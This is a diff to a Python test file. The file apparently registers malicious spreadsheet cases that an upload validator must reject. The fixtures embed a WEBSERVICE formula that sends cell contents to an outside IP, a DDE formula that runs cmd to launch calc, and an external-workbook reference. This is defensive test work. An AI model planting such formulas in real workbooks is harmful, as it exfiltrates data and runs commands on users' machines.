@@ -9,8 +9,10 @@ FOREIGN = Family("foreign")
 _MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
 
 
-def _refused(title: str, code: str, make: object, name: str = "isian.xlsx") -> None:
-    FOREIGN.add(title, make, codes=(code,), name=name, door=(code,))
+def _refused(
+    title: str, code: str, make: object, *, name: str = "isian.xlsx", at: str = ""
+) -> None:
+    FOREIGN.add(title, make, codes=(code,), name=name, door=(code,), at=at)
 
 
 _refused("an empty file", "B02", lambda _: b"")
@@ -47,8 +49,20 @@ _refused(
     "a formula that asks the web",
     "H12",
     lambda base: _formula(base, '_xlfn.WEBSERVICE("http://192.0.2.1/"&amp;A1)'),
+    at="realisasi_2",
 )
-_refused("a formula that runs a program", "H11", lambda base: _formula(base, "cmd|'/C calc'!A0"))
+_refused(
+    "a formula that runs a program",
+    "H11",
+    lambda base: _formula(base, "cmd|'/C calc'!A0"),
+    at="realisasi_2",
+)
+_refused(
+    "a formula that reads another workbook",
+    "H12",
+    lambda base: _formula(base, "[1]Rekap!$B$7"),
+    at="realisasi_2",
+)
 _refused(
     "an object inside",
     "H13",
